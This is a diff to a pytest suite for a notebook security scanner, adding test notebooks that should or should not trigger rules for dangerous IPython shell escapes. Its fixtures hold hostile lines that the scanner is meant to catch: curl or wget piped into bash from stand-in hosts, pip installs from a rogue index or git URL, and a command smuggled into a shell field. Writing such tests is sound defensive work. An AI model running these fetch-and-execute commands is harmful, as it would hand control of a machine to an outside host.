@@ -56,6 +56,47 @@ _SABOTAGE = (
 _FETCH = "!curl -s http://198.51.100.7/x | bash\n"
 _OLD_FETCH = "!wget -qO- http://203.0.113.9/setup | sh\n"
 
+# A zero-width space in outputs and widget state (a rendered placeholder):
+# none of it runs (session 21: 274 findings on real notebooks).
+_OUTPUTS = json.dumps(
+    {
+        "cells": [
+            {
+                "cell_type": "code",
+                "metadata": {},
+                "execution_count": 1,
+                "source": ["print('ok')\n"],
+                "outputs": [{"output_type": "stream", "name": "stdout", "text": ["o\u200bk\n"]}],
+            }
+        ],
+        "metadata": {"widgets": {"state": {"placeholder": "\u200b"}}},
+        "nbformat": 4,
+        "nbformat_minor": 5,
+    },
+    indent=1,
+    ensure_ascii=False,
+)
+# Over max_file_bytes (4 MB) by its outputs (a plot), a few lines of code.
+_LARGE = json.dumps(
+    {
+        "cells": [
+            {
+                "cell_type": "code",
+                "metadata": {},
+                "execution_count": 1,
+                "source": ["import torch\n", "print(torch.__version__)\n"],
+                "outputs": [
+                    {"output_type": "display_data", "data": {"image/png": "A" * 4_100_000}}
+                ],
+            }
+        ],
+        "metadata": {},
+        "nbformat": 4,
+        "nbformat_minor": 5,
+    },
+    indent=1,
+)
+
 BASE: dict[str, str] = {
     # a dangerous escape already on main: a change elsewhere in the notebook is not it
     "old/setup.ipynb": _nb("import torch\n", _OLD_FETCH),
@@ -93,6 +134,35 @@ HEAD: dict[str, str] = {
     ),
     "ok/kernel.ipynb": _nb("ls -la\n", "python train.py --config configs/base.yaml\n", lang="bash"),
     "ok/env.ipy": "%env CUDA_VISIBLE_DEVICES=0\nimport torch\n",
+    # Session 21, real notebooks (bench/fp_notebooks.py): IPython syntax read as
+    # IPython reads it, and `$NAME` that no Python name can fill runs as shell.
+    "ok/continued.ipynb": _nb(
+        "!pip install -q \\\n    torch==2.4.0 \\\n    numpy\n",
+        "t = %timeit -o sum(range(10))\n",
+        "?sum\nsum??\n",
+    ),
+    "ok/env_dollar.ipynb": _nb(
+        "import os\n\nos.environ['ASSET_DIR'] = '/tmp/assets'\n%load_ext autoreload\n",
+        "!mkdir -p ${ASSET_DIR}/sources\n!echo $HOME\n",
+    ),
+    "ok/outputs.ipynb": _OUTPUTS,
+    "ok/large.ipynb": _LARGE,
+    # ... and their attacker cases: the same syntax still judged.
+    "bad/continued.ipynb": _nb(
+        "import os\n", "!curl -fsSL https://x.example/s.sh \\\n    | bash\n"
+    ),
+    "bad/assign_pip.ipynb": _nb("out = %pip install git+https://github.com/x/kernels.git\n"),
+    "bad/dollar_run.ipynb": _nb("%run helpers.py\n", "!tar czf out.tgz $DATA\n"),
+    "bad/dollar_bound.ipynb": _nb("DATA = input()\n", "!tar czf out.tgz $DATA\n"),
+    # a notebook's own os.environ write: the `!pip install` after it uses that index
+    "bad/environ.ipynb": _nb(
+        "import os\n",
+        "os.environ['PIP_INDEX_URL'] = 'http://203.0.113.5/simple'\n!pip install torch\n",
+    ),
+    "ok/environ.ipynb": _nb(
+        "import os\n\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'\n"
+        "os.environ.setdefault('PIP_INDEX_URL', 'https://pypi.org/simple')\n",
+    ),
 }
 
 
@@ -141,6 +211,11 @@ def _line(path: str, needle: str) -> int:
         ("bad/kernel.ipynb", "tamper-shell-preload-env", "LD_PRELOAD"),
         ("bad/dynamic.ipynb", "exec-subprocess-shell", "{cmd}"),
         ("bad/perl.ipynb", "exec-subprocess-shell", "print 1"),
+        ("bad/continued.ipynb", "remote-shell-fetch-exec", "curl"),
+        ("bad/assign_pip.ipynb", "remote-shell-pip-install", "git+"),
+        ("bad/dollar_run.ipynb", "exec-subprocess-shell", "$DATA"),
+        ("bad/dollar_bound.ipynb", "exec-subprocess-shell", "$DATA"),
+        ("bad/environ.ipynb", "config-risky-env", "PIP_INDEX_URL"),
     ],
 )
 def test_dangerous_escape_is_found_on_its_cell_line(
@@ -174,7 +249,18 @@ def test_template_by_any_suffix_is_an_env_file(report: dict[str, Any]) -> None:
 
 
 @pytest.mark.parametrize(
-    "path", ["ok/escapes.ipynb", "ok/escapes.ipy", "ok/kernel.ipynb", "ok/env.ipy"]
+    "path",
+    [
+        "ok/escapes.ipynb",
+        "ok/escapes.ipy",
+        "ok/kernel.ipynb",
+        "ok/env.ipy",
+        "ok/continued.ipynb",
+        "ok/env_dollar.ipynb",
+        "ok/outputs.ipynb",
+        "ok/large.ipynb",
+        "ok/environ.ipynb",
+    ],
 )
 def test_harmless_escapes_pass(report: dict[str, Any], path: str) -> None:
     assert _found(report, path) == set()
@@ -224,3 +310,42 @@ def test_bash_cell_and_interpreters() -> None:
 def test_ipython_source_is_what_the_semgrep_check_reads() -> None:
     text, line_map = ipython_source("import os\n%time x = os.getcwd()\n!ls\n")
     assert text == "import os\nx = os.getcwd()\npass\n" and line_map == [1, 2, 3]
+
+
+@pytest.mark.parametrize(
+    ("cell", "built"),
+    [
+        ("import os\n!echo $HOME", False),  # no Python HOME: the lookup fails, runs as written
+        ("!mkdir -p ${ASSET_DIR}/d", False),
+        ("HOME = input()\n!echo $HOME", True),
+        ("for HOME in dirs:\n    !echo $HOME", True),
+        ("from helpers import *\n!echo $HOME", True),  # any name may be bound
+        ("globals()['HOME'] = 1\n!echo $HOME", True),
+        ("import builtins as b\nb.HOME = 1\n!echo $HOME", True),
+        ("%run helpers.py\n!echo $HOME", True),
+        ("%store -r HOME\n!echo $HOME", True),
+        ("!echo {os.system('id')} $HOME", True),  # a call runs before HOME fails
+        ("!echo $_i1", True),  # IPython's history names
+    ],
+)
+def test_dollar_name_the_kernel_cannot_hold_is_shell(cell: str, built: bool) -> None:
+    # IPython's var_expand: a field that fails leaves the command unexpanded (issue #16).
+    py = ipy.script_cells(cell).python[-1]
+    assert ("subprocess" in py) == built
+
+
+def test_continued_escape_is_joined_as_ipython_joins_it() -> None:
+    py, sh = ipy._cell(["!wget $url \\", "  -O x", "print(1)"], shell_kernel=False)
+    assert py[1:] == ["", "print(1)"] and "'    -O x'" in py[0]
+    assert sh == [" wget $url \\", "  -O x", ""]  # bash joins `\\`-newline the same way
+    py, sh = ipy._cell(["x = (1 + \\", "  2)"], shell_kernel=False)
+    assert py == ["x = (1 + \\", "  2)"] and sh == ["", ""]  # Python's own continuation
+
+
+def test_assigned_magic_and_help() -> None:
+    py, sh = ipy._cell(["t = %timeit -o f(x)", "y = %pip list", "f?", "??f"], shell_kernel=False)
+    assert py == ["f(x); t = _tg_magic_output", "y = _tg_magic_output"] + [
+        "pass  # f?",
+        "pass  # ??f",
+    ]
+    assert sh[1].strip() == "pip list"
